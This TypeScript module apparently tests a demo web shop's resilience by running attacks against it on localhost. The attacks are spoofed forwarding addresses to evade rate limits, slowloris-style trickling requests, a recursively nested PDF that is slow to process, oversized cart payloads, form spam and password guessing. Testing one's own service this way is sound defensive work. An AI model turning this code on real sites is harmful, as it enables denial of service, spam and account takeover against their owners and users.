import { once } from 'node:events'
import { connect } from 'node:net'
import { setTimeout as delay } from 'node:timers/promises'

/** What an attacker has: the shop's port, and the cookie of one customer of the demo with a line in the cart. */
export type Target = { readonly port: number; readonly cookie: string; readonly lineId: string }

/** One thing that is done over and over, by many at once. */
export type Attack = {
  readonly name: string
  readonly connections: number
  readonly once: (target: Target, count: number) => Promise<unknown>
  /** Whether it is about files: then the wait of another company for a check is measured too. */
  readonly delaysChecks?: boolean
}

/** Each visitor comes from an address of his own, so that no limit per network ends the attack. */
const addressOf = (count: number) => `10.${(count >> 16) & 255}.${(count >> 8) & 255}.${count & 255}`

async function ask(
  { port }: Target,
  [method, path]: readonly [string, string],
  { count, cookie, body }: { readonly count: number; readonly cookie?: string; readonly body?: unknown },
): Promise<void> {
  const answer = await fetch(`http://127.0.0.1:${port}${path}`, {
    method,
    headers: {
      'x-forwarded-for': addressOf(count),
      ...(cookie && { cookie }),
      ...(body !== undefined && { 'content-type': 'application/json' }),
    },
    ...(body !== undefined && { body: JSON.stringify(body) }),
  })
  await answer.arrayBuffer()
}

const LONG = 'x'.repeat(1500)
/** As many as one call may link; the line is ordered in as many copies. */
export const LINKS = 2000
const JSON_TYPE = 'application/json'
const TRICKLE_MS = 1000
const DEEP = 17

/** A PDF of one page in which each of seventeen forms draws the next one twice: small, and slow to walk. */
function slowPdf(): Buffer {
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] /Contents 4 0 R /Resources << /XObject << /X 5 0 R >> >> >>',
    '<< /Length 5 >>\nstream\n/X Do\nendstream',
    ...Array.from({ length: DEEP }, (_, level) => {
      const content = level === DEEP - 1 ? '0 0 1 1 re f' : '/X Do /X Do'
      return `<< /Type /XObject /Subtype /Form /BBox [0 0 300 300] /Resources << /XObject << /X ${6 + level} 0 R >> >> /Length ${content.length} >>\nstream\n${content}\nendstream`
    }),
  ]
  const body = objects.map((object, at) => `${at + 1} 0 obj\n${object}\nendobj\n`).join('')
  return Buffer.from(`%PDF-1.7\n${body}trailer << /Root 1 0 R /Size ${objects.length + 1} >>\n%%EOF`)
}
const SLOW_PDF = slowPdf()

type Upload = { readonly fileName: string; readonly content: Uint8Array<ArrayBuffer>; readonly type: string }

/** Uploads a file as a customer; answers its design, when it was taken. */
export async function upload(
  { port, cookie }: Omit<Target, 'lineId'>,
  { fileName, content, type }: Upload,
): Promise<string | null> {
  const post = async (path: string, body: BodyInit | null, bodyType: string) => {
    const answer = await fetch(`http://127.0.0.1:${port}${path}`, {
      method: 'POST',
      headers: { cookie, 'content-type': bodyType },
      body,
    })
    const text = await answer.text()
    return answer.ok ? text : '{}'
  }
  const { uploadToken } = JSON.parse(await post('/api/customer/upload-token', '{}', 'application/json'))
  const processId = crypto.randomUUID()
  await post('/api/designs', JSON.stringify({ processId, fileName }), 'application/json')
  const query = new URLSearchParams({ token: String(uploadToken), 'process-id': processId })
  const { design } = JSON.parse(await post(`/upload?${query}`, content, type))
  return design?.designId ?? null
}

async function uploadSlowFile(target: Target): Promise<void> {
  await upload(target, {
    fileName: 'traag.pdf',
    content: new Uint8Array(SLOW_PDF),
    type: 'application/pdf',
  })
  await delay(TRICKLE_MS)
}

/** Sends the head of a request and then a byte a second, until it is cut off. */
async function sendSlowly(
  { port }: Target,
  count: number,
  [method, path, type]: readonly [string, string, string],
): Promise<void> {
  const socket = connect({ host: '127.0.0.1', port })
  socket.on('error', () => undefined)
  const closed = once(socket, 'close')
  socket.write(
    `${method} ${path} HTTP/1.1\r\nhost: 127.0.0.1:${port}\r\nx-forwarded-for: ${addressOf(count)}\r\ncontent-type: ${type}\r\ncontent-length: 1000\r\n\r\n`,
  )
  const trickle = setInterval(() => socket.write(' '), TRICKLE_MS)
  await closed
  clearInterval(trickle)
}

const accountRequest = (count: number) => ({
  companyName: 'Vreemde reclame',
  kvkNumber: '69599084',
  vatId: 'NL004495445B01',
  country: 'NL',
  postcode: '1234AB',
  houseNumber: '1',
  street: 'Dorpsstraat',
  city: 'Ons Dorp',
  firstName: 'Iemand',
  lastName: 'Vreemd',
  email: `vreemde-${count}@demo.example`,
  phone: '0612345678',
  consent: true,
})

/** What was tried against the shop, and how often at once. */
export const ATTACKS: readonly Attack[] = [
  {
    name: 'unknown names in addresses',
    connections: 20,
    once: (target, count) => ask(target, ['GET', `/api/config?${count}=${LONG}`], { count }),
  },
  {
    name: 'unknown names in addresses of pages',
    connections: 10,
    once: (target, count) =>
      ask(target, ['GET', `/vlaggen-en-masten/mastvlaggen?${count}=${LONG}`], { count }),
  },
  {
    name: 'prices asked in ever other words',
    connections: 20,
    once: (target, count) =>
      ask(target, ['POST', '/api/products/calculate'], {
        count,
        body: { sku: 'SPD-510', quantity: (count % 9000) + 1, customOptions: [], [`x${count}`]: LONG },
      }),
  },
  {
    name: 'thousands of designs linked to a line',
    connections: 20,
    once(target, count) {
      const designs = Array.from({ length: LINKS }, () => ({ isStudioDesign: true, quantity: 1 }))
      const { cookie, lineId } = target
      return ask(target, ['PUT', `/api/cart/items/designs/${lineId}`], { count, cookie, body: { designs } })
    },
  },
  {
    name: 'files that are slow to check',
    connections: 6,
    once: (target) => uploadSlowFile(target),
    delaysChecks: true,
  },
  ...(
    [
      ['bodies that trickle', ['POST', '/api/products/calculate', JSON_TYPE]],
      ['bodies that trickle to what is kept', ['GET', '/api/config', JSON_TYPE]],
      [
        'bodies that trickle to a refused upload',
        ['POST', '/upload?token=x&process-id=x', 'application/pdf'],
      ],
    ] as const
  ).map(([name, request]) => ({
    name,
    connections: 200,
    once: (target: Target, count: number) => sendSlowly(target, count, request),
  })),
  {
    name: 'requests for accounts of strangers',
    connections: 20,
    once: (target, count) =>
      ask(target, ['POST', '/api/customer/request-account'], { count, body: accountRequest(count) }),
  },
  {
    name: 'newsletters for strangers',
    connections: 20,
    once: (target, count) =>
      ask(target, ['POST', '/api/newsletter/subscribe'], {
        count,
        body: { email: `vreemde-${count}@demo.example` },
      }),
  },
  {
    name: 'messages to strangers',
    connections: 20,
    once: (target, count) =>
      ask(target, ['POST', '/api/contact'], {
        count,
        body: {
          name: 'Iemand',
          email: `vreemde-${count}@demo.example`,
          subject: 'Aanbieding',
          message: 'Koop nu.',
        },
      }),
  },
  {
    name: 'passwords guessed',
    connections: 50,
    once: (target, count) =>
      ask(target, ['POST', '/api/customer/login'], {
        count,
        body: { username: 'klant@demo.example', password: `raden-${count}` },
      }),
  },
]
